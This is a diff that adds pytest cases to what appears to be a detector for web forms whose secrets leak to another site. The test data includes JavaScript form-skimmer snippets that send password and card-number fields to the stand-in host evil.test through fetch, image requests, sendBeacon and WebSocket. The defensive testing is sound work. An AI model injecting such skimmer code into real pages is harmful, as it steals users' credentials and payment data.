@@ -117,3 +117,39 @@ def test_secrets_that_another_site_gets(action: str, state: str) -> None:
 
     assert [outcome(insecure_form, page).state for page in (password, card)] == [state, state]
     assert outcome(insecure_form, password.replace("type=password", "type=email")).state == "safe"
+
+
+SKIMMER = "document.querySelector('form').onsubmit = () => {{ {send} }}"
+FIELDS = "<form method=post action=/buy><input name=u><input type=password id=secret name=p></form>"
+
+
+@pytest.mark.parametrize(
+    ("send", "state"),
+    [
+        ("fetch('https://evil.test/c?p=' + document.getElementById('secret').value)", "elsewhere"),
+        ("new Image().src = '//evil.test/c?' + document.querySelector('[type=password]').value", "elsewhere"),
+        ("navigator.sendBeacon('https://evil.test/', new FormData(form).get('secret'))", "elsewhere"),
+        ("new WebSocket('wss://evil.test/').send(secret.value)", "elsewhere"),
+        ("fetch('/login', {body: secret.value})", "safe"),
+        ("fetch('https://api.example.com/login', {body: secret.value})", "safe"),
+        ("fetch('https://example.okta.com/login', {body: secret.value})", "safe"),
+        ("fetch('https://stats.test/hit'); secretly.value = 1", "safe"),
+        ("open('https://evil.test/'); secret.value = ''", "safe"),
+    ],
+)
+def test_what_scripts_send_to_another_site(send: str, state: str) -> None:
+    """Read by its name, its id or its kind; counters that do not read it are no danger."""
+    script = SKIMMER.format(send=send)
+    far = script.replace("secret", f"{' ' * 400}secret").replace("password", f"{' ' * 400}password")
+
+    assert outcome(insecure_form, f"{FIELDS}<script>{script}</script>").state == state
+    assert outcome(insecure_form, f"<form method=post><input name=q></form><script>{script}</script>").state == "safe"
+    assert outcome(insecure_form, FIELDS.replace("name=p", "name=other") + f"<script>{far}</script>").state == "safe"
+
+
+def test_what_a_form_sends_by_its_own_attribute() -> None:
+    """A card number as well."""
+    send = "new Image().src='https://evil.test/?'+this.c.value;return true"
+    page = f'<form method=post action=/buy onsubmit="{send}"><input name=c autocomplete=cc-number></form>'
+
+    assert outcome(insecure_form, page).state == "elsewhere"
